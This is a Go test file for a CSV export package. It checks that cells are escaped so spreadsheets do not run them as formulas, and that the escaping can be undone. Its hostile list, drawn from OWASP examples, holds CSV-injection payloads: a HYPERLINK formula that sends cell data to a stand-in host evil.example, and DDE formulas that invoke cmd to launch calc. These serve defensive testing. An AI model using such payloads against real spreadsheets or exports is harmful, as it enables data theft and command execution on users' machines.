package csvout_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/readinglibrary/service/core/csvout"
)

// hostile are cells that spreadsheets run, from OWASP's CSV injection
// examples and their variants.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`=cmd|' /C calc'!A0`,
	`+SUM(1,1)`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\u3000=1+1",
	"\uFF1D1+1",
	"\uFF0B1",
	"\uFF0D1+1",
	"\uFF20SUM(A1)",
	"'=1+1",
	"-",
	"-1e3",
	"--1",
}

// spreadsheetRuns is the test's own reading of a cell as a spreadsheet
// sees it: a formula character first, after any spaces, or a tab or
// carriage return first. A plain negative number is a number.
func spreadsheetRuns(cell string) bool {
	if regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`).MatchString(cell) {
		return false
	}
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
	return strings.ContainsRune("=+-@＝＋－＠", r)
}

func TestCellMakesFormulasText(t *testing.T) {
	for _, s := range hostile {
		got := csvout.Cell(s)
		if got != "'"+s || spreadsheetRuns(got) {
			t.Errorf("Cell(%q) = %q, want %q", s, got, "'"+s)
		}
		if back := csvout.Restore(got); back != s {
			t.Errorf("Restore(Cell(%q)) = %q", s, back)
		}
	}
	for _, s := range []string{"Matilda", "", "Dahl, Roald", "-5", "-0.25", "12", "3.5", "a=b", "T 00123", "O'Brien", "'Twas the night", "e-mail"} {
		if got := csvout.Cell(s); got != s {
			t.Errorf("Cell(%q) = %q, want it unchanged", s, got)
		}
		if back := csvout.Restore(s); back != s {
			t.Errorf("Restore(%q) = %q, want it unchanged", s, back)
		}
	}
}

// A file the Writer wrote, read by a comma, semicolon or tab reader, has
// no cell a spreadsheet runs, and reads back cell for cell by comma.
func TestWriterOutputIsSafeWhateverTheSeparator(t *testing.T) {
	var records [][]string
	for _, h := range hostile {
		records = append(records, []string{h, "x;" + h, "x," + h, "x\t" + h, "line\n" + h, `say "` + h + `"`, "-7", "42"})
	}
	records = append(records, []string{""}, []string{"", ""})
	var buf bytes.Buffer
	w := csvout.NewWriter(&buf)
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	for _, sep := range []rune{',', ';', '\t'} {
		r := csv.NewReader(bytes.NewReader(buf.Bytes()))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
		got, err := r.ReadAll()
		if err != nil {
			t.Fatalf("read with %q: %v", sep, err)
		}
		for i, rec := range got {
			for j, cell := range rec {
				if spreadsheetRuns(cell) {
					t.Errorf("read with %q, record %d cell %d = %q: a spreadsheet runs it", sep, i, j, cell)
				}
			}
		}
		if sep != ',' {
			continue
		}
		if len(got) != len(records) {
			t.Fatalf("%d records read back, want %d:\n%s", len(got), len(records), buf.String())
		}
		for i, rec := range got {
			for j, cell := range rec {
				if back := csvout.Restore(cell); back != records[i][j] {
					t.Errorf("record %d cell %d reads back %q, want %q", i, j, back, records[i][j])
				}
			}
		}
	}
	if !strings.HasSuffix(buf.String(), "\n\"\"\n,\n") {
		t.Errorf("a record of one empty cell must not be a blank line:\n%q", buf.String())
	}
}

// The plain cells of a report or an export are written as before: no
// quotes where none are needed.
func TestWriterWritesPlainCellsBare(t *testing.T) {
	var buf bytes.Buffer
	w := csvout.NewWriter(&buf)
	_ = w.Write([]string{"title", "author", "isbn"})
	_ = w.Write([]string{"Matilda", "Roald Dahl", "9780140328721"})
	_ = w.Write([]string{"Dahl, Roald", " padded", "-3"})
	w.Flush()
	if want := "title,author,isbn\nMatilda,Roald Dahl,9780140328721\n\"Dahl, Roald\",\" padded\",-3\n"; buf.String() != want {
		t.Errorf("written:\n%s\nwant:\n%s", buf.String(), want)
	}
}

// FuzzCell: every cell comes out as one a spreadsheet does not run, and
// Restore gives the text back.
func FuzzCell(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Add("Matilda")
	f.Add("-12.5")
	f.Add("''-5")
	f.Fuzz(func(t *testing.T, s string) {
		got := csvout.Cell(s)
		if spreadsheetRuns(got) {
			t.Errorf("Cell(%q) = %q, which a spreadsheet runs", s, got)
		}
		if back := csvout.Restore(got); back != s {
			t.Errorf("Restore(Cell(%q)) = %q", s, back)
		}
	})
}
